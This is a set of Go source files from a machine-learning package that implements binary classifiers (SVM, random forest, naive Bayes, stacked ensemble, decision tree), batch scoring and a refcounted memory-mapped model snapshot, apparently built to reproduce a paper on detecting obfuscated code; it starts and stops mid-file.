			if int(t.root) >= nNodes {
				return fmt.Errorf("%w: tree %d root out of range", ErrSnapshotMalformed, i)
			}
		case treeHeap:
			if t.depth > heapMaxDepth {
				return fmt.Errorf("%w: tree %d heap depth %d", ErrSnapshotMalformed, i, t.depth)
			}
			internal := (1 << t.depth) - 1
			if int(t.root)+internal > nHeap {
				return fmt.Errorf("%w: tree %d heap nodes out of range", ErrSnapshotMalformed, i)
			}
			if int(t.leaf)+(1<<t.depth) > len(c.hProb) {
				return fmt.Errorf("%w: tree %d leaf table out of range", ErrSnapshotMalformed, i)
			}
			for j := 0; j < internal; j++ {
				if int(c.hFeat[int(t.root)+j]) >= c.dim {
					return fmt.Errorf("%w: tree %d heap feature out of range", ErrSnapshotMalformed, i)
				}
			}
		default:
			return fmt.Errorf("%w: tree %d unknown kind %d", ErrSnapshotMalformed, i, t.kind)
		}
	}
	return nil
}
