package ml

// BatchScorer is implemented by classifiers that can score many feature
// rows in one call, amortizing per-call overhead and keeping model state
// (the flattened tree arrays) cache-resident across the batch.
type BatchScorer interface {
	// ScoreBatch computes Score for every row of X into out; len(out)
	// must equal len(X).
	ScoreBatch(X [][]float64, out []float64)
}

// PredictBatch classifies every row of X, returning labels and decision
// scores. For tree-based classifiers (and Scaled wrappers around them)
// this runs one batched scoring pass — halving the tree walks of the
// Predict-then-Score call pattern — and derives the label from the 0.5
// probability threshold those classifiers' Predict uses. Every label and
// score is bit-identical to per-row Predict and Score calls.
func PredictBatch(c Classifier, X [][]float64) (labels []int, scores []float64) {
	labels = make([]int, len(X))
	scores = make([]float64, len(X))
	predictBatchInto(c, X, labels, scores)
	return labels, scores
}

func predictBatchInto(c Classifier, X [][]float64, labels []int, scores []float64) {
	switch v := c.(type) {
	case *DecisionTree:
		if v.fitted {
			v.ScoreBatch(X, scores)
			thresholdLabels(scores, labels)
			return
		}
	case *RandomForest:
		if v.fitted {
			v.ScoreBatch(X, scores)
			thresholdLabels(scores, labels)
			return
		}
	case *CompiledForest:
		v.ScoreBatch(X, scores)
		thresholdLabels(scores, labels)
		return
	case *Stacked:
		if v.fitted {
			v.ScoreBatch(X, scores)
			thresholdLabels(scores, labels)
			return
		}
	case *Scaled:
		if v.fitted {
			// Transform each row once and batch into the inner model;
			// the unbatched path transforms twice (Predict and Score).
			tx := make([][]float64, len(X))
			for i, x := range X {
				tx[i] = v.scaler.Transform(x)
			}
			predictBatchInto(v.Inner, tx, labels, scores)
			return
		}
	}
	for i, x := range X {
		labels[i] = c.Predict(x)
		scores[i] = c.Score(x)
	}
}

// thresholdLabels applies the probability-threshold labeling shared by
// DecisionTree.Predict and RandomForest.Predict.
func thresholdLabels(scores []float64, labels []int) {
	for i, s := range scores {
		if s >= 0.5 {
			labels[i] = Positive
		} else {
			labels[i] = Negative
		}
	}
}
