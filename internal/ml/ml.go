// Package ml implements from scratch the five supervised classifiers the
// paper evaluates (§IV.D): Support Vector Machine with an RBF kernel
// (SMO training, C=150, γ=0.03 as in the paper), Random Forest,
// Multi-Layer Perceptron, Linear Discriminant Analysis, and Bernoulli
// Naive Bayes — plus the standardization preprocessing scikit-learn
// applies implicitly in such pipelines.
//
// All classifiers are binary (labels 0 and 1, where 1 means "obfuscated"),
// deterministic for a fixed seed, and expose a real-valued Score used for
// ROC/AUC computation.
package ml

import (
	"errors"
	"fmt"
	"math"
)

// Label values used throughout: 1 = positive (obfuscated), 0 = negative.
const (
	Negative = 0
	Positive = 1
)

// ErrNotFitted is returned by Predict/Score before Fit.
var ErrNotFitted = errors.New("ml: classifier is not fitted")

// ErrBadTrainingData reports degenerate training input.
var ErrBadTrainingData = errors.New("ml: bad training data")

// Classifier is a binary classifier.
type Classifier interface {
	// Name identifies the algorithm (e.g. "SVM", "RF").
	Name() string
	// Fit trains on feature rows X with labels y (0 or 1).
	Fit(X [][]float64, y []int) error
	// Predict returns the predicted label for one feature row.
	Predict(x []float64) int
	// Score returns a real-valued decision score, monotone in the
	// probability of the positive class (used for ROC curves).
	Score(x []float64) float64
}

// validate checks the common preconditions of Fit implementations.
func validate(X [][]float64, y []int) (dim int, err error) {
	if len(X) == 0 || len(X) != len(y) {
		return 0, fmt.Errorf("%w: %d rows, %d labels", ErrBadTrainingData, len(X), len(y))
	}
	dim = len(X[0])
	if dim == 0 {
		return 0, fmt.Errorf("%w: zero-dimensional features", ErrBadTrainingData)
	}
	var pos, neg bool
	for i, row := range X {
		if len(row) != dim {
			return 0, fmt.Errorf("%w: row %d has %d features, want %d", ErrBadTrainingData, i, len(row), dim)
		}
		switch y[i] {
		case Positive:
			pos = true
		case Negative:
			neg = true
		default:
			return 0, fmt.Errorf("%w: label %d is not 0/1", ErrBadTrainingData, y[i])
		}
	}
	if !pos || !neg {
		return 0, fmt.Errorf("%w: training data must contain both classes", ErrBadTrainingData)
	}
	return dim, nil
}

// StandardScaler standardizes features to zero mean and unit variance, the
// preprocessing the paper's scikit-learn pipeline uses for SVM/MLP/LDA.
type StandardScaler struct {
	Mean []float64
	Std  []float64
}

// Fit computes per-feature mean and standard deviation.
func (s *StandardScaler) Fit(X [][]float64) error {
	if len(X) == 0 {
		return fmt.Errorf("%w: empty matrix", ErrBadTrainingData)
	}
	d := len(X[0])
	for i, row := range X {
		if len(row) != d {
			return fmt.Errorf("%w: row %d has %d features, want %d", ErrBadTrainingData, i, len(row), d)
		}
	}
	s.Mean = make([]float64, d)
	s.Std = make([]float64, d)
	for _, row := range X {
		for j, v := range row {
			s.Mean[j] += v
		}
	}
	n := float64(len(X))
	for j := range s.Mean {
		s.Mean[j] /= n
	}
	for _, row := range X {
		for j, v := range row {
			d := v - s.Mean[j]
			s.Std[j] += d * d
		}
	}
	for j := range s.Std {
		s.Std[j] = math.Sqrt(s.Std[j] / n)
		if s.Std[j] < 1e-12 {
			s.Std[j] = 1 // constant feature: leave centered at zero
		}
	}
	return nil
}

// Transform standardizes one row (allocating a new slice).
func (s *StandardScaler) Transform(x []float64) []float64 {
	out := make([]float64, len(x))
	for j, v := range x {
		out[j] = (v - s.Mean[j]) / s.Std[j]
	}
	return out
}

// TransformAll standardizes every row.
func (s *StandardScaler) TransformAll(X [][]float64) [][]float64 {
	out := make([][]float64, len(X))
	for i, row := range X {
		out[i] = s.Transform(row)
	}
	return out
}

// Scaled wraps a classifier with an input StandardScaler so feature
// scaling travels with the model.
type Scaled struct {
	Inner  Classifier
	scaler StandardScaler
	fitted bool
}

// NewScaled wraps inner with standardization.
func NewScaled(inner Classifier) *Scaled { return &Scaled{Inner: inner} }

// Name returns the inner classifier's name.
func (s *Scaled) Name() string { return s.Inner.Name() }

// Fit fits the scaler on X, then the inner classifier on scaled X.
func (s *Scaled) Fit(X [][]float64, y []int) error {
	if err := s.scaler.Fit(X); err != nil {
		return err
	}
	if err := s.Inner.Fit(s.scaler.TransformAll(X), y); err != nil {
		return err
	}
	s.fitted = true
	return nil
}

// Predict classifies one raw (unscaled) row.
func (s *Scaled) Predict(x []float64) int {
	if !s.fitted {
		return Negative
	}
	return s.Inner.Predict(s.scaler.Transform(x))
}

// Score returns the inner decision score for one raw row.
func (s *Scaled) Score(x []float64) float64 {
	if !s.fitted {
		return 0
	}
	return s.Inner.Score(s.scaler.Transform(x))
}

func sigmoid(z float64) float64 {
	if z >= 0 {
		e := math.Exp(-z)
		return 1 / (1 + e)
	}
	e := math.Exp(z)
	return e / (1 + e)
}
