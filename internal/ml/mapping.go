package ml

import (
	"fmt"
	"sync/atomic"
)

// Mapping is a reference-counted read-only byte region backing a
// zero-copy model snapshot — usually an mmap'd model file shared by every
// worker in the process (and, as the page cache, by every process on the
// host). The count starts at 1 for the owner; scoring paths Retain/Release
// around use, and Close drops the owner reference. The region is released
// (munmap'd, for real mappings) only when the count reaches zero, so a
// hot-reload can Close the old model while in-flight batches finish
// against it safely.
type Mapping struct {
	data     []byte
	refs     atomic.Int64
	closed   atomic.Bool
	unmapped atomic.Bool
	unmap    func([]byte) error
}

// NewMapping wraps data in a refcounted mapping. unmap, if non-nil, is
// called exactly once when the last reference is released; for plain
// heap-backed data it may be nil.
func NewMapping(data []byte, unmap func([]byte) error) *Mapping {
	m := &Mapping{data: data, unmap: unmap}
	m.refs.Store(1)
	return m
}

// Data returns the mapped bytes. Callers must hold a reference.
func (m *Mapping) Data() []byte { return m.data }

// Retain adds a reference, reporting false if the mapping is already dead
// (every reference released). A false return means the caller must not
// touch Data.
func (m *Mapping) Retain() bool {
	for {
		n := m.refs.Load()
		if n <= 0 {
			return false
		}
		if m.refs.CompareAndSwap(n, n+1) {
			return true
		}
	}
}

// Release drops one reference; the final release unmaps.
func (m *Mapping) Release() {
	if m.refs.Add(-1) == 0 {
		m.unmapped.Store(true)
		if m.unmap != nil {
			_ = m.unmap(m.data)
		}
		m.data = nil
	}
}

// Close drops the owner reference (idempotent). The region stays mapped
// until concurrent holders release theirs.
func (m *Mapping) Close() error {
	if m == nil || !m.closed.CompareAndSwap(false, true) {
		return nil
	}
	m.Release()
	return nil
}

// Unmapped reports whether the final reference has been released (the
// observable "munmap happened" signal used by reload-under-load tests).
func (m *Mapping) Unmapped() bool { return m.unmapped.Load() }

// MapFile maps path read-only. On platforms without mmap support the file
// is read into memory behind the same refcounted interface, so callers are
// portable either way.
func MapFile(path string) (*Mapping, error) {
	m, err := mapFile(path)
	if err != nil {
		return nil, fmt.Errorf("ml: map %s: %w", path, err)
	}
	return m, nil
}
