package ml

import (
	"fmt"
	"math/rand"
)

// Stacked is a channel-stacking ensemble: the input row is the
// concatenation of named feature channels, each channel gets its own
// RandomForest base learner over its slice of the row, and a logistic
// combiner maps the per-channel probabilities to the final verdict.
//
// The combiner is trained on out-of-fold base predictions (classic
// stacked generalization): K stratified folds, base forests refit on each
// training split, held-out rows scored by forests that never saw them.
// Training on in-fold predictions would let the combiner learn the bases'
// training-set overconfidence instead of their generalization behavior.
//
// Everything is deterministic for a fixed Seed at any Workers setting:
// fold assignment, per-fold forest seeds, and the final base forests all
// derive their randomness from (Seed, role, index) via the same
// splitmix64 finalizer the forest uses per tree.
type Stacked struct {
	// ChannelNames labels the channels, in concatenation order.
	ChannelNames []string
	// Dims are the per-channel widths, in concatenation order; their sum
	// must equal the width of every training/scoring row.
	Dims []int
	// Trees is the per-channel forest size (default 100).
	Trees int
	// Folds is the out-of-fold split count for combiner training
	// (default 5, clamped to the size of the smaller class).
	Folds int
	// Seed drives every random choice in the ensemble.
	Seed int64
	// Workers bounds per-forest tree-training concurrency (0 = GOMAXPROCS).
	Workers int

	bases    []*RandomForest
	combiner *Logit
	fitted   bool
}

// NewStacked returns a stacking ensemble over the given channel layout.
func NewStacked(names []string, dims []int, seed int64) *Stacked {
	return &Stacked{
		ChannelNames: append([]string(nil), names...),
		Dims:         append([]int(nil), dims...),
		Trees:        100,
		Folds:        5,
		Seed:         seed,
	}
}

// Name implements Classifier.
func (s *Stacked) Name() string { return "STACK" }

// stackSeed derives an independent seed for one role (fold f, channel c)
// from the ensemble seed, decorrelating all base-forest RNG streams.
func stackSeed(seed int64, fold, channel int) int64 {
	z := uint64(seed) ^ (uint64(fold)+1)*0xD1B54A32D192ED03
	return treeSeed(int64(z), channel)
}

// sliceChannel views each row's [off, off+dim) columns without copying
// (subslices share the row's backing array).
func sliceChannel(X [][]float64, off, dim int) [][]float64 {
	out := make([][]float64, len(X))
	for i, row := range X {
		out[i] = row[off : off+dim]
	}
	return out
}

// newBase builds one channel's forest with a derived seed.
func (s *Stacked) newBase(fold, channel int) *RandomForest {
	rf := NewRandomForest(stackSeed(s.Seed, fold, channel))
	if s.Trees > 0 {
		rf.Trees = s.Trees
	}
	rf.Workers = s.Workers
	return rf
}

// Fit trains the per-channel forests and the out-of-fold combiner.
func (s *Stacked) Fit(X [][]float64, y []int) error {
	d, err := validate(X, y)
	if err != nil {
		return err
	}
	if len(s.Dims) == 0 {
		return fmt.Errorf("%w: stacked ensemble has no channels", ErrBadTrainingData)
	}
	total := 0
	for _, w := range s.Dims {
		if w <= 0 {
			return fmt.Errorf("%w: non-positive channel width %d", ErrBadTrainingData, w)
		}
		total += w
	}
	if total != d {
		return fmt.Errorf("%w: row width %d != channel layout width %d", ErrBadTrainingData, d, total)
	}
	nc := len(s.Dims)
	offs := make([]int, nc)
	for c := 1; c < nc; c++ {
		offs[c] = offs[c-1] + s.Dims[c-1]
	}

	// Out-of-fold meta-features for the combiner: every row is scored by
	// base forests trained without it.
	folds := stratifiedFolds(y, s.Folds, s.Seed)
	meta := make([][]float64, len(X))
	for i := range meta {
		meta[i] = make([]float64, nc)
	}
	for fi, hold := range folds {
		inTrain := make([]bool, len(X))
		for i := range inTrain {
			inTrain[i] = true
		}
		for _, i := range hold {
			inTrain[i] = false
		}
		trX := make([][]float64, 0, len(X)-len(hold))
		trY := make([]int, 0, len(X)-len(hold))
		for i, ok := range inTrain {
			if ok {
				trX = append(trX, X[i])
				trY = append(trY, y[i])
			}
		}
		holdX := make([][]float64, len(hold))
		for k, i := range hold {
			holdX[k] = X[i]
		}
		scores := make([]float64, len(hold))
		for c := 0; c < nc; c++ {
			rf := s.newBase(fi+1, c)
			if err := rf.Fit(sliceChannel(trX, offs[c], s.Dims[c]), trY); err != nil {
				return fmt.Errorf("stack fold %d channel %q: %w", fi, s.channelName(c), err)
			}
			rf.ScoreBatch(sliceChannel(holdX, offs[c], s.Dims[c]), scores)
			for k, i := range hold {
				meta[i][c] = scores[k]
			}
		}
	}
	combiner := NewLogit()
	if err := combiner.Fit(meta, y); err != nil {
		return fmt.Errorf("stack combiner: %w", err)
	}

	// Final base forests see all the data (fold 0 = the deployment role).
	bases := make([]*RandomForest, nc)
	for c := 0; c < nc; c++ {
		rf := s.newBase(0, c)
		if err := rf.Fit(sliceChannel(X, offs[c], s.Dims[c]), y); err != nil {
			return fmt.Errorf("stack channel %q: %w", s.channelName(c), err)
		}
		bases[c] = rf
	}
	s.bases = bases
	s.combiner = combiner
	s.fitted = true
	return nil
}

func (s *Stacked) channelName(c int) string {
	if c < len(s.ChannelNames) {
		return s.ChannelNames[c]
	}
	return fmt.Sprintf("#%d", c)
}

// Score returns the combiner probability for one concatenated row.
func (s *Stacked) Score(x []float64) float64 {
	if !s.fitted {
		return 0
	}
	meta := make([]float64, len(s.bases))
	off := 0
	for c, rf := range s.bases {
		meta[c] = rf.Score(x[off : off+s.Dims[c]])
		off += s.Dims[c]
	}
	return s.combiner.Score(meta)
}

// Predict implements Classifier with the 0.5 probability threshold.
func (s *Stacked) Predict(x []float64) int {
	if s.Score(x) >= 0.5 {
		return Positive
	}
	return Negative
}

// ScoreBatch scores every row of X into out, running each base forest's
// batched scorer over its channel slice (one cache-friendly pass per
// channel) before the per-row combiner fold.
func (s *Stacked) ScoreBatch(X [][]float64, out []float64) {
	if !s.fitted {
		for k := range out {
			out[k] = 0
		}
		return
	}
	nc := len(s.bases)
	cols := make([]float64, len(X)*nc)
	col := make([]float64, len(X))
	off := 0
	for c, rf := range s.bases {
		rf.ScoreBatch(sliceChannel(X, off, s.Dims[c]), col)
		for k, v := range col {
			cols[k*nc+c] = v
		}
		off += s.Dims[c]
	}
	for k := range X {
		out[k] = s.combiner.Score(cols[k*nc : (k+1)*nc])
	}
}

// ChannelScoreBatch scores every row of X per channel: the result is one
// column per base forest, row-major ([row][channel]), the same numbers
// ScoreBatch folds through the combiner. Returns nil before Fit. This is
// the triage/drift surface — per-channel contributions without a second
// forest pass.
func (s *Stacked) ChannelScoreBatch(X [][]float64) [][]float64 {
	if !s.fitted || len(X) == 0 {
		return nil
	}
	nc := len(s.bases)
	out := make([][]float64, len(X))
	for k := range out {
		out[k] = make([]float64, nc)
	}
	col := make([]float64, len(X))
	off := 0
	for c, rf := range s.bases {
		rf.ScoreBatch(sliceChannel(X, off, s.Dims[c]), col)
		for k, v := range col {
			out[k][c] = v
		}
		off += s.Dims[c]
	}
	return out
}

// CombineChannels folds one row of per-channel scores (as produced by
// ChannelScoreBatch) through the fitted combiner — the exact computation
// Score and ScoreBatch end with, exposed so callers that already hold
// channel scores can finish the verdict without a second forest pass.
func (s *Stacked) CombineChannels(meta []float64) float64 {
	if !s.fitted {
		return 0
	}
	return s.combiner.Score(meta)
}

// Compile builds the compiled inference engine for every base forest.
// Results stay bit-identical; a non-compilable base keeps its flattened
// walk.
func (s *Stacked) Compile() error {
	if !s.fitted {
		return ErrNotFitted
	}
	for _, rf := range s.bases {
		if err := rf.Compile(); err != nil {
			return err
		}
	}
	return nil
}

// Bases returns the fitted per-channel forests, in channel order (nil
// before Fit).
func (s *Stacked) Bases() []*RandomForest { return s.bases }

// CombinerWeights returns the combiner's per-channel coefficients and
// intercept (nil, 0 before Fit) — the learned channel weighting.
func (s *Stacked) CombinerWeights() ([]float64, float64) {
	if s.combiner == nil {
		return nil, 0
	}
	return s.combiner.Weights()
}

// stratifiedFolds deals the indices of each class round-robin into k
// folds after a seeded shuffle, so every fold keeps the class balance.
// k is clamped to [2, size of the smaller class] (with fewer than two
// samples of a class, a single degenerate fold would make base training
// single-class; clamping keeps each training split two-class).
func stratifiedFolds(y []int, k int, seed int64) [][]int {
	var pos, neg []int
	for i, v := range y {
		if v == Positive {
			pos = append(pos, i)
		} else {
			neg = append(neg, i)
		}
	}
	minClass := len(pos)
	if len(neg) < minClass {
		minClass = len(neg)
	}
	if k > minClass {
		k = minClass
	}
	if k < 2 {
		k = 2
	}
	rng := rand.New(rand.NewSource(treeSeed(seed, -1)))
	rng.Shuffle(len(pos), func(i, j int) { pos[i], pos[j] = pos[j], pos[i] })
	rng.Shuffle(len(neg), func(i, j int) { neg[i], neg[j] = neg[j], neg[i] })
	folds := make([][]int, k)
	for i, idx := range pos {
		folds[i%k] = append(folds[i%k], idx)
	}
	for i, idx := range neg {
		folds[i%k] = append(folds[i%k], idx)
	}
	return folds
}
