package ml

import (
	"math"
	"sort"
)

// BernoulliNB is a Bernoulli Naive Bayes classifier. Continuous features
// are binarized at the per-feature training median (scikit-learn's
// binarize parameter generalized to continuous inputs), then modelled as
// independent Bernoulli variables with Laplace smoothing.
type BernoulliNB struct {
	// Alpha is the Laplace smoothing constant (default 1).
	Alpha float64

	thresholds []float64
	logPrior   [2]float64
	logProb    [2][]float64 // log P(x_j = 1 | class)
	logNot     [2][]float64 // log P(x_j = 0 | class)
	fitted     bool
}

// NewBernoulliNB returns a BernoulliNB with Laplace smoothing.
func NewBernoulliNB() *BernoulliNB { return &BernoulliNB{Alpha: 1} }

// Name implements Classifier.
func (b *BernoulliNB) Name() string { return "BNB" }

// Fit estimates per-class Bernoulli parameters.
func (b *BernoulliNB) Fit(X [][]float64, y []int) error {
	d, err := validate(X, y)
	if err != nil {
		return err
	}
	if b.Alpha == 0 {
		b.Alpha = 1
	}
	n := len(X)

	// Per-feature binarization threshold: the training median.
	b.thresholds = make([]float64, d)
	col := make([]float64, n)
	for j := 0; j < d; j++ {
		for i, row := range X {
			col[i] = row[j]
		}
		sort.Float64s(col)
		b.thresholds[j] = col[n/2]
	}

	var count [2]int
	var ones [2][]float64
	ones[0] = make([]float64, d)
	ones[1] = make([]float64, d)
	for i, row := range X {
		c := y[i]
		count[c]++
		for j, v := range row {
			if v > b.thresholds[j] {
				ones[c][j]++
			}
		}
	}
	for c := 0; c < 2; c++ {
		b.logPrior[c] = math.Log(float64(count[c]) / float64(n))
		b.logProb[c] = make([]float64, d)
		b.logNot[c] = make([]float64, d)
		for j := 0; j < d; j++ {
			p := (ones[c][j] + b.Alpha) / (float64(count[c]) + 2*b.Alpha)
			b.logProb[c][j] = math.Log(p)
			b.logNot[c][j] = math.Log(1 - p)
		}
	}
	b.fitted = true
	return nil
}

// Score returns the positive-vs-negative log-posterior difference.
func (b *BernoulliNB) Score(x []float64) float64 {
	if !b.fitted {
		return 0
	}
	ll := [2]float64{b.logPrior[0], b.logPrior[1]}
	for j, v := range x {
		bit := v > b.thresholds[j]
		for c := 0; c < 2; c++ {
			if bit {
				ll[c] += b.logProb[c][j]
			} else {
				ll[c] += b.logNot[c][j]
			}
		}
	}
	return ll[1] - ll[0]
}

// Predict implements Classifier. An unfitted model predicts Negative.
func (b *BernoulliNB) Predict(x []float64) int {
	if !b.fitted {
		return Negative
	}
	if b.Score(x) >= 0 {
		return Positive
	}
	return Negative
}
