package ml

import (
	"math"
	"math/rand"
	"testing"
)

// importanceData: feature 0 fully informative, feature 1 weakly, feature 2
// pure noise.
func importanceData(n int, seed int64) ([][]float64, []int) {
	rng := rand.New(rand.NewSource(seed))
	X := make([][]float64, n)
	y := make([]int, n)
	for i := range X {
		c := i % 2
		X[i] = []float64{
			float64(c)*4 - 2 + rng.NormFloat64()*0.3,
			float64(c)*1 - 0.5 + rng.NormFloat64()*1.5,
			rng.NormFloat64(),
		}
		y[i] = c
	}
	return X, y
}

func TestTreeImportances(t *testing.T) {
	X, y := importanceData(400, 1)
	tree := &DecisionTree{}
	if err := tree.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	imp := tree.Importances()
	if len(imp) != 3 {
		t.Fatalf("importances = %v", imp)
	}
	sum := imp[0] + imp[1] + imp[2]
	if math.Abs(sum-1) > 1e-9 {
		t.Errorf("importances sum = %v", sum)
	}
	if imp[0] < imp[1] || imp[0] < imp[2] {
		t.Errorf("feature 0 should dominate: %v", imp)
	}
}

func TestForestImportances(t *testing.T) {
	X, y := importanceData(400, 2)
	rf := NewRandomForest(2)
	rf.Trees = 40
	if err := rf.Fit(X, y); err != nil {
		t.Fatal(err)
	}
	imp := rf.Importances()
	if len(imp) != 3 {
		t.Fatalf("importances = %v", imp)
	}
	if imp[0] < 0.5 {
		t.Errorf("informative feature importance = %v", imp)
	}
	if imp[2] > 0.3 {
		t.Errorf("noise feature importance too high: %v", imp)
	}
	sum := 0.0
	for _, v := range imp {
		sum += v
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Errorf("sum = %v", sum)
	}
}

func TestImportancesUnfitted(t *testing.T) {
	if imp := (&DecisionTree{}).Importances(); imp != nil {
		t.Errorf("unfitted tree importances = %v", imp)
	}
	if imp := NewRandomForest(1).Importances(); imp != nil {
		t.Errorf("unfitted forest importances = %v", imp)
	}
}
