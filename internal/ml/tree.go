package ml

import (
	"math/rand"
	"sort"
)

// DecisionTree is a binary CART classifier splitting on Gini impurity.
// It is used both standalone and as the base learner of RandomForest.
type DecisionTree struct {
	// MaxDepth limits tree depth (0 means unlimited).
	MaxDepth int
	// MinSamplesLeaf is the minimum number of samples per leaf (default 1).
	MinSamplesLeaf int
	// MaxFeatures is the number of features considered per split
	// (0 means all; RandomForest sets √d).
	MaxFeatures int
	// Seed drives the per-split feature subsampling.
	Seed int64

	root       *treeNode
	fitted     bool
	importance []float64 // per-feature Gini importance (unnormalized)
	nTotal     int

	// Flattened preorder representation of the fitted tree, rebuilt by
	// flatten() after Fit/Load. Score walks these contiguous arrays
	// instead of chasing node pointers; node i is a leaf iff left[i] < 0.
	flatFeature   []int32
	flatThreshold []float64
	flatLeft      []int32
	flatRight     []int32
	flatProb      []float64
}

type treeNode struct {
	feature   int
	threshold float64
	left      *treeNode
	right     *treeNode
	// prob is the positive-class fraction at a leaf (leaf iff left == nil).
	prob float64
}

// Name implements Classifier.
func (t *DecisionTree) Name() string { return "Tree" }

// Fit grows the tree.
func (t *DecisionTree) Fit(X [][]float64, y []int) error {
	if _, err := validate(X, y); err != nil {
		return err
	}
	if t.MinSamplesLeaf == 0 {
		t.MinSamplesLeaf = 1
	}
	idx := make([]int, len(X))
	for i := range idx {
		idx[i] = i
	}
	rng := rand.New(rand.NewSource(t.Seed))
	t.importance = make([]float64, len(X[0]))
	t.nTotal = len(idx)
	t.root = t.grow(X, y, idx, 0, rng)
	t.fitted = true
	t.flatten()
	return nil
}

// fitIndexed grows the tree on the given row subset (no copy); used by
// RandomForest with bootstrap samples.
func (t *DecisionTree) fitIndexed(X [][]float64, y []int, idx []int, rng *rand.Rand) {
	if t.MinSamplesLeaf == 0 {
		t.MinSamplesLeaf = 1
	}
	if len(X) > 0 {
		t.importance = make([]float64, len(X[0]))
	}
	t.nTotal = len(idx)
	t.root = t.grow(X, y, idx, 0, rng)
	t.fitted = true
	t.flatten()
}

// flatten packs the pointer tree into preorder arrays. The pointer tree is
// kept as the canonical structure (serialization, Depth, importances); the
// arrays are what Score and ScoreBatch walk.
func (t *DecisionTree) flatten() {
	t.flatFeature = t.flatFeature[:0]
	t.flatThreshold = t.flatThreshold[:0]
	t.flatLeft = t.flatLeft[:0]
	t.flatRight = t.flatRight[:0]
	t.flatProb = t.flatProb[:0]
	if t.root == nil {
		return
	}
	var walk func(n *treeNode) int32
	walk = func(n *treeNode) int32 {
		id := int32(len(t.flatProb))
		t.flatFeature = append(t.flatFeature, int32(n.feature))
		t.flatThreshold = append(t.flatThreshold, n.threshold)
		t.flatProb = append(t.flatProb, n.prob)
		t.flatLeft = append(t.flatLeft, -1)
		t.flatRight = append(t.flatRight, -1)
		if n.left != nil {
			t.flatLeft[id] = walk(n.left)
			t.flatRight[id] = walk(n.right)
		}
		return id
	}
	walk(t.root)
}

func (t *DecisionTree) grow(X [][]float64, y []int, idx []int, depth int, rng *rand.Rand) *treeNode {
	pos := 0
	for _, i := range idx {
		pos += y[i]
	}
	node := &treeNode{prob: float64(pos) / float64(len(idx))}
	if pos == 0 || pos == len(idx) ||
		len(idx) < 2*t.MinSamplesLeaf ||
		(t.MaxDepth > 0 && depth >= t.MaxDepth) {
		return node
	}
	feat, thr, ok := t.bestSplit(X, y, idx, rng)
	if !ok {
		return node
	}
	var left, right []int
	for _, i := range idx {
		if X[i][feat] <= thr {
			left = append(left, i)
		} else {
			right = append(right, i)
		}
	}
	if len(left) < t.MinSamplesLeaf || len(right) < t.MinSamplesLeaf {
		return node
	}
	node.feature = feat
	node.threshold = thr
	// Gini importance: impurity decrease weighted by the node's sample
	// share.
	if t.importance != nil && t.nTotal > 0 {
		leftPos, rightPos := 0, 0
		for _, i := range left {
			leftPos += y[i]
		}
		for _, i := range right {
			rightPos += y[i]
		}
		parent := gini(leftPos+rightPos, len(idx))
		children := (float64(len(left))*gini(leftPos, len(left)) +
			float64(len(right))*gini(rightPos, len(right))) / float64(len(idx))
		t.importance[feat] += float64(len(idx)) / float64(t.nTotal) * (parent - children)
	}
	node.left = t.grow(X, y, left, depth+1, rng)
	node.right = t.grow(X, y, right, depth+1, rng)
	return node
}

// bestSplit scans candidate features for the threshold minimizing weighted
// Gini impurity.
func (t *DecisionTree) bestSplit(X [][]float64, y []int, idx []int, rng *rand.Rand) (feat int, thr float64, ok bool) {
	d := len(X[0])
	features := make([]int, d)
	for i := range features {
		features[i] = i
	}
	if t.MaxFeatures > 0 && t.MaxFeatures < d {
		rng.Shuffle(d, func(i, j int) { features[i], features[j] = features[j], features[i] })
		features = features[:t.MaxFeatures]
	}

	type pair struct {
		v float64
		y int
	}
	vals := make([]pair, len(idx))
	best := 2.0 // gini is at most 0.5 per side; any real split beats this
	totalPos := 0
	for _, i := range idx {
		totalPos += y[i]
	}
	n := float64(len(idx))
	for _, f := range features {
		for k, i := range idx {
			vals[k] = pair{v: X[i][f], y: y[i]}
		}
		sort.Slice(vals, func(a, b int) bool { return vals[a].v < vals[b].v })
		leftPos, leftN := 0, 0
		for k := 0; k < len(vals)-1; k++ {
			leftPos += vals[k].y
			leftN++
			if vals[k].v == vals[k+1].v {
				continue
			}
			rightPos := totalPos - leftPos
			rightN := len(vals) - leftN
			gl := gini(leftPos, leftN)
			gr := gini(rightPos, rightN)
			weighted := (float64(leftN)*gl + float64(rightN)*gr) / n
			if weighted < best {
				best = weighted
				feat = f
				thr = (vals[k].v + vals[k+1].v) / 2
				ok = true
			}
		}
	}
	return feat, thr, ok
}

func gini(pos, n int) float64 {
	if n == 0 {
		return 0
	}
	p := float64(pos) / float64(n)
	return 2 * p * (1 - p)
}

// Score returns the leaf positive-class probability.
func (t *DecisionTree) Score(x []float64) float64 {
	if !t.fitted {
		return 0
	}
	if len(t.flatProb) == 0 {
		// Fitted tree without flat arrays (constructed by hand in tests):
		// fall back to the pointer walk.
		node := t.root
		for node.left != nil {
			if x[node.feature] <= node.threshold {
				node = node.left
			} else {
				node = node.right
			}
		}
		return node.prob
	}
	i := int32(0)
	for t.flatLeft[i] >= 0 {
		if x[t.flatFeature[i]] <= t.flatThreshold[i] {
			i = t.flatLeft[i]
		} else {
			i = t.flatRight[i]
		}
	}
	return t.flatProb[i]
}

// ScoreBatch scores every row of X into out (len(out) must equal len(X)).
func (t *DecisionTree) ScoreBatch(X [][]float64, out []float64) {
	for k, x := range X {
		out[k] = t.Score(x)
	}
}

// Predict implements Classifier.
func (t *DecisionTree) Predict(x []float64) int {
	if t.Score(x) >= 0.5 {
		return Positive
	}
	return Negative
}

// Depth returns the depth of the fitted tree (0 for a stump/leaf).
func (t *DecisionTree) Depth() int {
	var rec func(n *treeNode) int
	rec = func(n *treeNode) int {
		if n == nil || n.left == nil {
			return 0
		}
		l, r := rec(n.left), rec(n.right)
		if r > l {
			l = r
		}
		return 1 + l
	}
	return rec(t.root)
}

// Importances returns the per-feature Gini importances of the fitted
// tree, normalized to sum to 1 (nil before Fit).
func (t *DecisionTree) Importances() []float64 {
	return normalizeImportance(t.importance)
}

func normalizeImportance(raw []float64) []float64 {
	if raw == nil {
		return nil
	}
	total := 0.0
	for _, v := range raw {
		total += v
	}
	out := make([]float64, len(raw))
	if total == 0 {
		return out
	}
	for i, v := range raw {
		out[i] = v / total
	}
	return out
}
