package ml

import (
	"math"
	"math/rand"
)

// SVM is a C-support-vector classifier with an RBF kernel trained by the
// simplified SMO algorithm (Platt 1998 as presented in the Stanford CS229
// notes). The paper uses C = 150 and γ = 0.03 (§IV.D).
type SVM struct {
	// C is the soft-margin penalty.
	C float64
